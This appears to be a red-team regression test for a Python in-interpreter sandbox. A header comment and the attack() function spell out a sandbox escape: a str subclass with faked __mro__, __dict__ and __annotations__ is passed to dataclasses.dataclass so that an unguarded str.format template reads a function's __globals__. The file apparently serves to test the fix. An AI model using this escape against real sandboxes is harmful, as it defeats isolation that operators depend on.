# mypy: ignore-errors
# Technique: `dataclasses.dataclass(obj)` on an instance, not a class. The guarded decorator
# checked field names only for classes; an instance answers `__mro__`, `__dict__` and
# `__annotations__` itself (properties), so dataclasses made a field `format` of it
# unchecked and read its default natively: the unguarded `str.format` of a `str` subclass,
# with a template reading `{0.__globals__}`. Found in the eighth red-team pass of the
# in-interpreter layer; was a real in-interpreter escape (dunder values as text,
# 3.11-3.13) before the fix.
import dataclasses

from suaveplan import fs

U = "_" * 2


class Fake(str):
    @property
    def __mro__(self):
        return (object,)

    @property
    def __dict__(self):
        return {U + "annotations" + U: {"format": str}}

    @property
    def __annotations__(self):
        return {"format": str}

    def __getattr__(self, name):
        if name in (U + "qualname" + U, U + "name" + U):
            return "Fake"
        raise AttributeError(name)

    def __call__(self):
        pass


def attack(secret_path, canary_path):
    fake = Fake("{0." + U + "globals" + U + "}")
    dataclasses.dataclass(fake)
    text = dataclasses.fields(fake)[0].default(fs.read_text)
    if "'_b'" in text:
        print("SANDBOX-" + "ESCAPED")
    return text[:200]
